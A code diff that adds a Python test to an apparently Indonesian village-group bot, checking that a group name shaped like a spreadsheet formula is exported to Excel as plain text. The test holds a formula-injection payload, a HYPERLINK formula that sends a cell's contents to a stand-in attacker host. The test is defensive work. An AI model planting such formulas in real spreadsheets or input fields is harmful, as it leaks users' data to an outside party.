@@ -14,6 +14,7 @@ from bot.services import KimApp
 from tests.botapi import BotApiServer, FakeUser
 from tests.botapi.session import ChatSession
 from tests.cards import card_with
+from tests.network import Network
 from tests.test_coverage import PNG_SIGNATURE, RACI, add_kim, add_subscriber
 
 
@@ -69,6 +70,25 @@ async def test_operator_sees_the_table_then_gets_chart_and_spreadsheet(
     kalianyar = next(row for row in rows if row[1] == "Kalianyar")
     assert kalianyar[4:] == ("Tidak", None, None, 1)
     await chat.expect_nothing(within=0.2)
+
+
+async def test_a_kim_named_like_a_formula_is_text_in_the_spreadsheet(
+    server: BotApiServer, kimbot: KimApp
+) -> None:
+    """A group admin's "=HYPERLINK(...)" KIM name reaches the XLSX as text, never a formula."""
+    chat = await _operator(server, kimbot)
+    trap = '=HYPERLINK("http://evil.example/?d="&B2,"Klik")'
+    await Network(server, kimbot).kim_group(trap, "35.14.14.1012", server.new_user("Eko"))
+    await chat.send("/cakupan")
+    table = await chat.expect()
+    await chat.press(table, "📄 Excel")
+    sheet = await chat.expect()
+    assert sheet.document is not None
+    workbook = load_workbook(io.BytesIO(sheet.document))
+    cells = [row[5] for row in workbook["Desa"].iter_rows() if row[2].value == "35.14.14.1012"]
+    assert [(cell.value, cell.data_type) for cell in cells] == [("'" + trap, "s")]
+    counts = [row[7] for row in workbook["Desa"].iter_rows(min_row=2)]
+    assert {cell.data_type for cell in counts} == {"n"}  # numbers stay numbers
 
 
 async def test_operator_lists_the_desa_without_kim_of_a_kecamatan(
